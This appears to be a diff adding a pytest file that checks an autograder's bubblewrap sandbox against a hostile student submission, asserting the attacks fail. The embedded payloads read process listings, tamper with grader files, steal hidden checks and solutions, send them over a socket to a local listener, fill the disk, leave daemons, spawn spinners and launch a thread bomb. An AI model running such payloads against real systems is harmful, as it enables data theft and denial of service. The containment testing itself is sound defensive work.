@@ -1,0 +1,279 @@
+"""A hostile learner among correct and wrong neighbours (issue 14), graded for real with
+``grader grade`` and ``grader batch`` (forked processes): every neighbour gets what it deserves,
+the attacker gains nothing, nothing leaks, nothing survives the run.
+
+One attacker tries every class of attack the issue measured: at its top level it looks through
+/proc for the class and output folders and the other gradings' pipes, rewrites the grader's own
+files, reads the hidden checks and the solutions, connects to the network, writes outside its
+work dir and far past its size, and leaves a daemon behind; its functions start an escaped crowd
+of spinners and a thread bomb. What it saw is printed, so the report's output shows it.
+"""
+
+from __future__ import annotations
+
+import ast
+import hashlib
+import json
+import socket
+import sys
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+import yaml
+
+from grader.isolation import probe
+from tests.conftest import ROOT, STUBS, course_with, run_cli, solution_text
+
+pytestmark = pytest.mark.skipif(probe().mode != "bwrap", reason="isolation is not available on this machine")
+MARKER = "hostile-learner-7c1e"  # in every process the attacker starts, to find survivors by
+HIDDEN = "def test_describe_device_cuda"  # a line of a hidden check's source
+SOLUTION = "def train_step_with_backoff"  # a line of the solutions
+
+RECON = r'''
+import glob, os, socket, subprocess, sys
+
+def _say(key, value):
+    print(f"[{key}] {value}")
+
+_say("uid", os.getuid())
+def _owner(pid):
+    try:
+        return int(next(l for l in open(f"/proc/{pid}/status") if l.startswith("Uid:")).split()[1])
+    except (OSError, StopIteration):
+        return None
+_say("pids", sorted((int(p), _owner(p)) for p in os.listdir("/proc") if p.isdigit()))
+for pid in (1,):
+    try:
+        os.kill(pid, 9)
+        _say("killed", pid)
+    except OSError as exc:
+        _say("kill refused", f"{pid}: {exc.strerror}")
+seen = set()
+for path in glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/environ"):
+    try:
+        seen.update(w for w in open(path, "rb").read().decode(errors="replace").split("\0") if w.startswith("/"))
+    except OSError:
+        pass
+_say("paths seen", sorted(p for p in seen if not p.startswith("/dev")))
+_say("pipes seen", len([fd for fd in glob.glob("/proc/*/fd/*") if os.path.realpath(fd).startswith("pipe:")]))
+for target in (ROOT + "/grader/checks/conftest.py", ROOT + "/grader/scoring.py", ROOT + "/course.yaml",
+               ROOT + "/grader/checks/ex1_device/test_describe_device_cuda.py"):
+    try:
+        with open(target, "a") as out:
+            out.write("# hacked\n")
+        _say("wrote", target)
+    except OSError as exc:
+        _say("write refused", f"{target}: {exc.strerror}")
+leaked = ""
+for pattern in (ROOT + "/grader/checks/*/test_*.py", ROOT + "/solutions/*.py", "/**/checks/ex1_device/*.py"):
+    for path in glob.glob(pattern, recursive=True)[:50]:
+        try:
+            leaked += open(path).read()
+        except OSError:
+            pass
+_say("leaked bytes", len(leaked))
+try:
+    socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"exfiltrated " + leaked[:1000].encode())
+    _say("network", "sent")
+except OSError as exc:
+    _say("network", exc.strerror)
+for path in ("/tmp/MARKER-outside", ROOT + "/MARKER-outside", os.path.expanduser("~/MARKER-big")):
+    try:
+        with open(path, "wb") as out:
+            for _ in range(2048):
+                out.write(b"0" * 1024 * 1024)  # 2 GB
+        _say("wrote 2 GB", path)
+    except OSError as exc:
+        _say("big write stopped", f"{path}: {exc.strerror}")
+if os.fork() == 0:  # a daemon: its own session, a clean environment, forever
+    os.setsid()
+    if os.fork() == 0:
+        os.execve(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "MARKER-daemon"], {})
+    os._exit(0)
+import time
+time.sleep(0.5)
+_say("daemons", sum(1 for p in os.listdir("/proc") if p.isdigit() and "MARKER" in open(f"/proc/{p}/cmdline").read()))
+'''
+
+SPINNERS = r'''
+import os, subprocess, sys, time
+
+STARTED = []
+
+def time_matmul(n, device, repeats=5):
+    if not STARTED:  # escaped spinners, once: their own sessions, a clean environment
+        STARTED.extend(subprocess.Popen([sys.executable, "-c", "while True: pass", "MARKER-spinner"],
+                                        start_new_session=True, env={}) for _ in range(60))
+        time.sleep(0.5)
+        print("[spinners]", sum(1 for p in os.listdir("/proc")
+                                if p.isdigit() and "MARKER" in open(f"/proc/{p}/cmdline").read()))
+    return 1.0
+'''
+
+THREAD_BOMB = r'''
+import threading, time
+
+def roundtrip(x, device):
+    for _ in range(16000):
+        threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
+    return x
+
+def to_numpy(t):  # 60 KB of text through a visible check's message
+    raise ValueError("FLOOD" * 12000)
+'''
+
+
+@pytest.fixture
+def listener() -> Iterator[tuple[int, list[bytes]]]:
+    """A TCP server on the grader's loopback: whatever reaches it was exfiltrated."""
+    server = socket.socket()
+    server.bind(("127.0.0.1", 0))
+    server.listen()
+    server.settimeout(0.2)
+    received: list[bytes] = []
+    stop = threading.Event()
+
+    def serve() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = server.accept()
+            except OSError:
+                continue
+            with conn:
+                received.append(conn.recv(65536))
+
+    thread = threading.Thread(target=serve, daemon=True)
+    thread.start()
+    yield server.getsockname()[1], received
+    stop.set()
+    thread.join()
+    server.close()
+
+
+def _attacker(folder: Path, port: int) -> Path:
+    folder.mkdir(parents=True)
+    recon = RECON.replace("ROOT", repr(str(ROOT))).replace("PORT", str(port)).replace("MARKER", MARKER)
+    (folder / "ex1_device.py").write_text(recon + "\n" + solution_text("ex1"), encoding="utf-8")
+    (folder / "ex2_timing.py").write_text(SPINNERS.replace("MARKER", MARKER), encoding="utf-8")
+    (folder / "ex3_roundtrip.py").write_text(THREAD_BOMB, encoding="utf-8")
+    return folder
+
+
+def _class(tmp_path: Path, port: int) -> Path:
+    cls = tmp_path / "class"
+    (cls / "good").mkdir(parents=True)
+    for module in ("ex1_device", "ex2_timing", "ex3_roundtrip"):
+        (cls / "good" / f"{module}.py").write_text(solution_text(module.split("_")[0]), encoding="utf-8")
+        (cls / "bad").mkdir(exist_ok=True)
+        (cls / "bad" / f"{module}.py").write_text((STUBS / f"{module}.py").read_text(encoding="utf-8"), "utf-8")
+    _attacker(cls / "mallory", port)
+    return cls
+
+
+def _digest(root: Path) -> dict[str, str]:
+    return {str(p.relative_to(root)): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(root.rglob("*")) if p.is_file() and "__pycache__" not in p.parts}
+
+
+def _survivors() -> list[str]:
+    found = []
+    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
+        try:
+            text = cmdline.read_bytes().decode(errors="replace")
+        except OSError:
+            continue
+        if MARKER in text:
+            found.append(text.replace("\0", " "))
+    return found
+
+
+def _output(report: dict[str, Any], key: str) -> str:
+    lines = [line for line in report["output"].splitlines() if line.startswith(f"[{key}]")]
+    assert lines, (key, report["output"][:2000])
+    return lines[0].split("] ", 1)[1]
+
+
+def _assert_contained(attacker: dict[str, Any], received: list[bytes], before: dict[str, str]) -> None:
+    assert attacker["isolation"]["mode"] == "bwrap"
+    assert _output(attacker, "uid") == "65534"  # nobody, who owns nothing
+    # Its pid namespace's init (root's) and itself: nothing else, and the init is not signalable.
+    assert _output(attacker, "pids") == "[(1, 0), (2, 65534)]"
+    assert _output(attacker, "kill refused") == "1: Operation not permitted"
+    # Nothing in any command line or environment it can read names the project or the class: at
+    # most the interpreter, setpriv and bwrap (bubblewrap's options came through a pipe).
+    seen = ast.literal_eval(_output(attacker, "paths seen"))
+    assert not [p for p in seen if p.startswith(str(ROOT)) and not p.startswith(sys.prefix)], seen
+    assert not [p for p in seen if "class" in p or "mallory" in p], seen
+    assert _output(attacker, "pipes seen") in ("0", "1", "2", "3")  # its own stdout and the like
+    assert _output(attacker, "leaked bytes") == "0"
+    assert "wrote " + str(ROOT) not in attacker["output"]
+    assert _output(attacker, "network") in ("Connection refused", "Network is unreachable")
+    assert received == []
+    assert "[wrote 2 GB]" not in attacker["output"]
+    assert _digest(ROOT / "grader") == before  # the grader's files, byte for byte
+    assert not Path(f"/tmp/{MARKER}-outside").exists() and not (ROOT / f"{MARKER}-outside").exists()
+    assert HIDDEN not in yaml.safe_dump(attacker) and SOLUTION not in yaml.safe_dump(attacker)
+    assert _output(attacker, "daemons") == "1" and int(_output(attacker, "spinners")) >= 60  # they did start
+    time.sleep(0.5)
+    assert _survivors() == []  # the daemon, the spinners, the threads: ended with the run
+    bomb = next(c for c in attacker["exercises"]["ex3"]["checks"] if c["id"] == "ex3.roundtrip_values")
+    assert bomb["status"] == "error" and "processes" in bomb["message"], bomb  # threads count
+    flood = next(c for c in attacker["exercises"]["ex3"]["checks"] if c["id"] == "ex3.to_numpy_cpu")
+    assert "FLOODFLOOD" in flood["message"] and "more characters cut" in flood["message"], flood
+    assert max(len(c["message"]) for ex in attacker["exercises"].values() for c in ex["checks"]) < 1500
+
+
+def _assert_gradescope_capped(results: dict[str, Any]) -> None:
+    assert max(len(test["output"]) for test in results["tests"]) < 3000
+    flood = next(t for t in results["tests"] if t["name"] == "ex3.to_numpy_cpu")
+    assert "more characters cut" in flood["output"]
+
+
+def test_an_attacker_graded_alone_reaches_nothing(tmp_path: Path, listener: tuple[int, list[bytes]]) -> None:
+    port, received = listener
+    cls = _class(tmp_path, port)
+    before = _digest(ROOT / "grader")
+    neighbours = _digest(cls / "good")
+    course = course_with(tmp_path, {"max_processes: 256": "max_processes: 128"})
+    out = tmp_path / "mallory.yaml"
+    gradescope = tmp_path / "results.json"
+    proc = run_cli("grade", str(cls / "mallory"), "-o", str(out), "--lang", "en", "--course", str(course),
+                   "--gradescope", str(gradescope), timeout=240)
+    assert proc.returncode == 0, proc.stderr
+    _assert_contained(yaml.safe_load(out.read_text(encoding="utf-8")), received, before)
+    _assert_gradescope_capped(json.loads(gradescope.read_text(encoding="utf-8")))
+    assert _digest(cls / "good") == neighbours
+
+
+def test_an_attacker_in_a_batch_changes_no_neighbours_grade(tmp_path: Path,
+                                                            listener: tuple[int, list[bytes]]) -> None:
+    port, received = listener
+    cls = _class(tmp_path, port)
+    before = _digest(ROOT / "grader")
+    course = course_with(tmp_path, {"max_processes: 256": "max_processes: 128"})
+    out = tmp_path / "out"
+    started = time.monotonic()
+    proc = run_cli("batch", str(cls), "-o", str(out), "--workers", "2", "--lang", "en", "--course", str(course),
+                   timeout=300)
+    assert proc.returncode == 0, proc.stderr
+    reports = {name: yaml.safe_load((out / f"{name}.yaml").read_text(encoding="utf-8"))
+               for name in ("good", "bad", "mallory")}
+    assert reports["good"]["score"] == 60.0, reports["good"]["exercises"]  # ex1-ex3 in full
+    assert reports["bad"]["score"] == 0.0
+    assert all(r["notes"] == [] for name, r in reports.items() if name != "mallory")
+    _assert_contained(reports["mallory"], received, before)
+    # What its functions deserve: ex1 is a solution; ex2 as the same time_matmul without the spinners.
+    plain = tmp_path / "plain"
+    plain.mkdir()
+    (plain / "ex2_timing.py").write_text("def time_matmul(n, device, repeats=5):\n    return 1.0\n", encoding="utf-8")
+    assert run_cli("grade", str(plain), "-o", str(tmp_path / "plain.yaml"), "--lang", "en").returncode == 0
+    deserved = yaml.safe_load((tmp_path / "plain.yaml").read_text(encoding="utf-8"))["exercises"]["ex2"]["score"]
+    assert [reports["mallory"]["exercises"][ex]["score"] for ex in ("ex1", "ex2", "ex3")] == [20.0, deserved, 0.0]
+    assert time.monotonic() - started < 200
+    # A re-run keeps what the grader wrote, and regrades nothing.
+    again = run_cli("batch", str(cls), "-o", str(out), "--lang", "en", "--course", str(course))
+    assert "0 graded, 3 already up to date" in again.stdout
